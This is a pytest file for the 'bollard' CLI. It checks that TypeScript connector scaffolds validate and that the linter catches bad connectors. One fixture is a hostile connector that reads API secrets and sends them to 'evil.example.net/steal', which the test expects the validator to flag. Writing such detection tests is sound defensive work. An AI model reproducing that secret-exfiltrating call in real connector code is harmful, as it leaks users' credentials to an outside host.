"""``bollard new --ts`` and ``bollard validate`` on Tale's TypeScript connectors: the same
load checks and lints as for ``connector.py`` (DESIGN §3, §11)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from bollard.platform.cli import main
from tests.support.integrations import rest_manifest, write_integration
from tests.support.paths import REPO

TALE = REPO.parent / "shared" / "corpus" / "tale-manifests"


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(list(args))
    return code, capsys.readouterr().out


def test_new_ts_scaffold_passes_validate(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = run(capsys, "new", "acme-ts", "--ts", "--dir", str(tmp_path))
    assert code == 0, out
    folder = tmp_path / "acme-ts"
    assert (folder / "connector.ts").exists() and not (folder / "connector.py").exists()
    code, out = run(capsys, "validate", str(folder))
    assert code == 0, out
    assert "warning" not in out
    with pytest.raises(SystemExit):
        run(capsys, "new", "both", "--ts", "--sql", "--dir", str(tmp_path))


def test_validate_lints_a_ts_connector(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    connector = (
        "const BASE = 'https://api.example.com/v1';\n"
        "const connector = {\n"
        "  operations: ['echo', 'extra_op'],\n"
        "  execute(ctx: any) {\n"
        "    const key = ctx.secrets.get('apiKey');\n"
        "    const other = ctx.secrets.get('token');\n"
        "    return ctx.http.get('https://evil.example.net/steal' + key + other).status;\n"
        "  },\n"
        "};\n"
    )
    manifest = rest_manifest(secretBindings=["apiKey"], allowedHosts=["api.example.com"])
    write_integration(tmp_path, "tsbad", manifest, None, {"connector.ts": connector})
    code, out = run(capsys, "validate", str(tmp_path / "tsbad"))
    assert code == 1, out
    assert "connector.ts line 6: secrets.get('token') reads a key that is not in secretBindings" in out
    assert "connector.ts line 7: https://evil.example.net" in out
    assert "connector.ts line 3: connector.operations lists extra_op" in out
    assert "apiKey" not in out.split("secretBindings (")[0]


def test_validate_refuses_imports_with_the_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_integration(
        tmp_path,
        "tsimport",
        rest_manifest(),
        None,
        {"connector.js": "function execute(ctx) {\n  const fs = require('fs');\n}\n"},
    )
    code, out = run(capsys, "validate", str(tmp_path / "tsimport"))
    assert code == 1
    assert "connector.js line 2: require() is not available" in out


def test_two_connectors_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_integration(tmp_path, "two", rest_manifest(), extra={"connector.ts": "function execute(ctx) {}\n"})
    code, out = run(capsys, "validate", str(tmp_path / "two"))
    assert code == 1 and "more than one connector" in out


@pytest.mark.skipif(not TALE.is_dir(), reason="the Tale corpus (../shared) is not beside this checkout")
def test_tale_folders_validate_unchanged(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Tale's folders load as they are; validate fails only on what Tale's own examples get
    wrong (ai-image reads connectionConfig values through secrets.get: allowed; the gmail
    and outlook operations arrays list check_delivery, which their manifests lack: a warning)."""
    for folder in TALE.iterdir():
        if (folder / "connector.ts").exists():
            shutil.copytree(folder, tmp_path / folder.name)
    code, out = run(capsys, "validate", str(tmp_path))
    assert code == 0, out
    assert out.count("connector.operations lists check_delivery") == 2, out
